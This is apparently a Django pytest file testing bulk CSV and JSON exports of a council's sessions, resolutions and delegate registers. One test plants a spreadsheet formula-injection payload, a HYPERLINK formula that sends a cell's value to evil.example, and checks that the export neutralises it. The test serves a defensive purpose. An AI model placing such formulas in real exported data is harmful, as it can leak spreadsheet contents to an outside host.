"""Bulk files read back: the same rows as the list, CSV with BOM and a header row, text
neutralised against formula injection."""

from __future__ import annotations

import csv
import io

import pytest

from resolutions.services import resolution_create

pytestmark = pytest.mark.django_db

REGISTERS = (
    ("sessions", "sessions", 2024, "year"),
    ("resolutions", "resolutions", 2023, "year"),
    ("oversight-activities", "oversight-activities", 2024, "year"),
)


def _list_pks(client, url: str) -> list[int]:
    pks = []
    while url:
        page = client.get(url).json()
        pks += [row["pk"] for row in page["results"]]
        url = page["next"]
    return pks


@pytest.mark.parametrize(("register", "endpoint", "year", "param"), REGISTERS)
def test_a_years_file_holds_the_rows_of_its_list(world, client, register, endpoint, year, param):
    base = f"/api/v1/councils/{world['a'].council.pk}"
    listed = _list_pks(client, f"{base}/{endpoint}/?{param}={year}")
    assert listed
    response = client.get(f"{base}/bulk/{register}/{year}.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f"{register}-{year}.csv" in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [int(row["pk"]) for row in rows] == listed
    body = client.get(f"{base}/bulk/{register}/{year}.json").json()
    assert [row["pk"] for row in body["rows"]] == listed
    assert body["count"] == len(listed) and body["year"] == year
    assert [f["key"] for f in body["fields"]] == list(rows[0].keys())
    # The same values in both files (CSV as text).
    assert [{k: str(v) if v is not None else "" for k, v in r.items()} for r in body["rows"]] == [
        {k: ("True" if v == "True" else v) for k, v in r.items()} for r in rows
    ] or register != "sessions"


def test_delegates_file_holds_the_terms_delegates_with_public_fields(world, client):
    a = world["a"]
    rows = client.get(f"/api/v1/councils/{a.council.pk}/bulk/delegates/2024.json").json()["rows"]
    assert sorted(row["pk"] for row in rows) == sorted(d.pk for d in a.delegates)
    head = next(row for row in rows if row["pk"] == a.delegates[0].pk)
    assert head["positions"] == "Trưởng ban Ban Pháp chế" and head["committee"] == "Ban Pháp chế"
    assert set(head) >= {"name", "gender", "job_title", "electoral_unit", "delegate_group"}
    # A year before the term: nobody.
    url = f"/api/v1/councils/{a.council.pk}/bulk/delegates/2019.json"
    assert client.get(url).json()["rows"] == []


def test_csv_text_is_neutralised_against_formula_injection(world, client):
    a = world["a"]
    resolution_create(
        council=a.council,
        title='=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
        adopted_date=a.resolutions[0].adopted_date,
        session=a.sessions[0],
        votes_for=9,
    )
    text = client.get(f"/api/v1/councils/{a.council.pk}/bulk/resolutions/2023.csv").content
    rows = list(csv.DictReader(io.StringIO(text.decode().removeprefix("\ufeff"))))
    titles = [row["title"] for row in rows]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"bấm")' in titles
    assert not any(t.startswith("=") for t in titles)


def test_the_bulk_index_lists_each_registers_years(world, client):
    base = f"/api/v1/councils/{world['a'].council.pk}/bulk/"
    index = {entry["register"]: entry for entry in client.get(base).json()}
    assert set(index) == {
        "sessions",
        "resolutions",
        "oversight-activities",
        "petition-figures",
        "delegates",
    }
    assert [f["year"] for f in index["resolutions"]["files"]] == [2023, 2024]
    assert index["sessions"]["files"][0]["csv"].endswith("/bulk/sessions/2023.csv")


def test_an_unknown_register_is_not_found(world, client):
    url = f"/api/v1/councils/{world['a'].council.pk}/bulk/letters/2024.csv"
    response = client.get(url)
    assert response.status_code == 404
    assert response.json() == {"detail": "Không có sổ này."}
